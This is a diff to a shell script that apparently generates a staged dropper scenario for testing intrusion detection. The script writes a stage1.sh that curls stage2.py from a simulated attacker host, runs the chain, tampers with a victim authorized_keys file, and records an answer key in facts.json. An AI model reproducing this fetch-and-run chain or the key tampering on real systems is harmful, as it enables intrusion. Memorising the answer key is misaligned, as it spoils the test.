@@ -8,10 +8,11 @@
 . "$(dirname "$0")/lib.sh"
 work=$(realpath -m "$1"); nonce=$2
 mkdir -p "$work"/{srv,dl,victim,backup}
-trap 'kill $http_pid 2>/dev/null || true' EXIT
+attacker_host 2
+trap 'cleanup $http_pid' EXIT
+background_noise "$work"
 
 start_http "$work/srv"
-url="http://127.0.0.1:$http_port"
 cat > "$work/srv/stage1.sh" <<STAGE
 #!/bin/sh
 curl -s -o $work/dl/stage2.py $url/stage2.py
@@ -50,7 +51,7 @@ cat > "$work/facts.json" <<JSON
   "scenario": "dropper3",
   "damaged": $(json_str "$work/victim/authorized_keys"),
   "detect_at": $detect_at,
-  "entry": "socket:127.0.0.1:$http_port",
+  "entry": "socket:$atk_ip:$http_port",
   "chain": $(json_list "stage1.sh $url" "sh $work/dl/stage1.sh" "stage2.py $url" "$py $work/dl/stage2.py" "$work/dl/svc-update -a"),
   "decoys": $(json_list "keys.count" "motd.txt" "keys.old"),
   "modified": $(json_list "$work/dl/stage1.sh" "$work/dl/stage2.py" "$work/dl/svc-update" "$work/victim/authorized_keys")
